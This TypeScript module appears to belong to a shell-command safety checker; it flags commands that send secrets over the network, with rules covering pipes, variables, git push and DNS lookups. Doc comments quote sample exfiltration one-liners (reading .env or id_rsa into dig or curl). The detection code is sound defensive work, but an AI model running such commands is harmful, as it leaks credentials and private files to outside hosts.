import type { Finding } from "./finding.ts";
import { interpreterTable } from "./code/interpreter-table.ts";
import { findSources } from "./find-sources.ts";
import { isNetworkSink, sendsOwnSecret, sendsUnknownFile } from "./network-sinks.ts";
import { normalisePath } from "./paths.ts";
import type { Place } from "./place.ts";
import { isSecretSource } from "./secrets.ts";
import type { SimpleCommand } from "./simple-command.ts";
import { findWrittenPaths } from "./written-paths.ts";

const reason = "It reads secrets and sends them over the network.";

const unclear = "It sends a file over the network whose name is only known when it runs.";

/**
 * A secret that reaches a network program: through a pipe, a substitution, a variable, a file in between, or as its own argument.
 * Reading a secret alone, and using the network alone, are not findings here.
 */
export function judgeExfiltration(commands: readonly SimpleCommand[], place: Place): Finding[] {
  const variables = new Set<string>();
  const files = new Set<string>();
  const findings: Finding[] = [];
  for (const command of commands) {
    if (isNetworkSink(command)) {
      if (
        sendsOwnSecret(command) ||
        receivesSecret(command) ||
        usesTainted(command, variables, { files, place }) ||
        isFedSecrets(command, commands)
      ) {
        findings.push({ verdict: "danger", rule: "exfiltration.secret", reason, command: command.source });
      } else if (sendsUnknownFile(command)) {
        findings.push({ verdict: "danger", rule: "exfiltration.unclear", reason: unclear, command: command.source });
      }
      continue;
    }
    if (!holdsSecret(command) && !usesTainted(command, variables, { files, place })) continue;
    for (const { name } of command.assignments) variables.add(name);
    if (command.name === "read" || command.name === "mapfile" || command.name === "readarray")
      for (const word of command.words.slice(1)) variables.add(word.text);
    if (/^(?:export|declare|local|typeset|readonly)$/.test(command.name))
      for (const word of command.words.slice(1))
        if (word.prefix.includes("=")) variables.add(word.prefix.split("=")[0]!);
    for (const redirect of command.redirects)
      if (redirect.operator.startsWith(">") || redirect.operator.startsWith("&"))
        files.add(normalisePath(redirect.target, place));
    for (const path of findWrittenPaths(command)) files.add(normalisePath(path, place));
    if (command.name === "git" && command.words.some((word) => word.text === "add")) files.add("git");
  }
  findings.push(...judgeNameLookups(commands));
  const push = commands.find(({ name, words }) => name === "git" && words.some((word) => word.text === "push"));
  if (files.has("git") && push !== undefined)
    findings.push({ verdict: "danger", rule: "exfiltration.secret", reason, command: push.source });
  return findings;
}

const lookups = /^(?:ping6?|dig|host|nslookup|drill)$/;
const readers = /^(?:cat|head|tail|base64|xxd|od|hexdump|env|printenv|grep|tr|cut)$/;

/** `for x in $(cat .env); do dig $x.example; done`: the name that is asked for carries the secret. */
function judgeNameLookups(commands: readonly SimpleCommand[]): Finding[] {
  const lookup = commands.find(
    ({ name, words }) => lookups.test(name) && words.slice(1).some((word) => word.kind === "dynamic"),
  );
  if (lookup === undefined || !commands.some((command) => readers.test(command.name) && holdsSecret(command)))
    return [];
  return [{ verdict: "danger", rule: "exfiltration.secret", reason, command: lookup.source }];
}

/** `find -name id_rsa -exec curl …`, `cat .env | xargs curl …`: the wrapper holds the secret. */
function isFedSecrets({ via }: SimpleCommand, commands: readonly SimpleCommand[]): boolean {
  const starter = via.at(-1);
  return (
    starter !== undefined &&
    commands.some(
      (other) =>
        // Code that starts several programs may hand what one prints to another.
        ((interpreterTable.has(starter) && starter === other.via.at(-1) && !shells.test(starter)) ||
          ((feeders.test(other.name) || interpreterTable.has(other.name)) && via.includes(other.name))) &&
        holdsSecret(other),
    )
  );
}

const shells = /^(?:ba|z|da|k|fi)?sh$/;

const feeders = /^(?:find|fd|fdfind|xargs|parallel)$/;

function receivesSecret(command: SimpleCommand): boolean {
  if (command.substitutions.some(holdsSecret) && !authorises(command)) return true;
  if (command.input.kind === "commands") return command.input.commands.some(holdsSecret);
  return command.input.kind === "file" && isSecretSource({ ...command, words: [] });
}

/** `-H "Authorization: Bearer $(gh auth token)"` is what such a token is for. */
export function authorises({ words, substitutions }: SimpleCommand): boolean {
  const holders = words.filter((word) => /\$\(|`/.test(word.text));
  const isHeader =
    holders.length > 0 && holders.every((word) => /^(?:authorization|private-token|x-api-key):/i.test(word.text));
  return (
    isHeader &&
    substitutions.every(({ name }) =>
      /^(?:gh|gcloud|az|aws|op|vault|glab|kubectl|pass|node|jq|printenv|python3?)$/.test(name),
    )
  );
}

/** The output of this command, or of what it takes from, holds secrets. */
function holdsSecret(command: SimpleCommand): boolean {
  const known = judged.get(command);
  if (known !== undefined) return known;
  judged.set(command, false);
  const { input, substitutions } = command;
  const holds =
    isSecretSource(command) ||
    substitutions.some(holdsSecret) ||
    (input.kind === "commands" && input.commands.some(holdsSecret));
  judged.set(command, holds);
  return holds;
}

/** Each command of a long pipe lists all those before it. */
const judged = new WeakMap<SimpleCommand, boolean>();

function usesTainted(
  command: SimpleCommand,
  variables: ReadonlySet<string>,
  { files, place }: { files: ReadonlySet<string>; place: Place },
): boolean {
  if (variables.size === 0 && files.size === 0) return false;
  return [...findSources(command)].some(({ words, redirects, input, assignments }) => {
    const all = [
      ...words.slice(1),
      ...redirects.map(({ target }) => target),
      ...assignments.map(({ value }) => value),
      ...(input.kind === "file" ? [input.path] : []),
    ];
    return all.some((word) => {
      if (word.kind === "dynamic" && namesVariable(word.text, variables)) return true;
      const text = word.text.replace(/^[^=@<]*=?[@<]/, "").replace(/^-T/, "");
      return files.has(normalisePath({ ...word, text }, place)) || files.has(normalisePath(word, place));
    });
  });
}

function namesVariable(text: string, variables: ReadonlySet<string>): boolean {
  for (const match of text.matchAll(/\$\{?#?([A-Za-z_][A-Za-z0-9_]*)/g)) if (variables.has(match[1]!)) return true;
  return false;
}
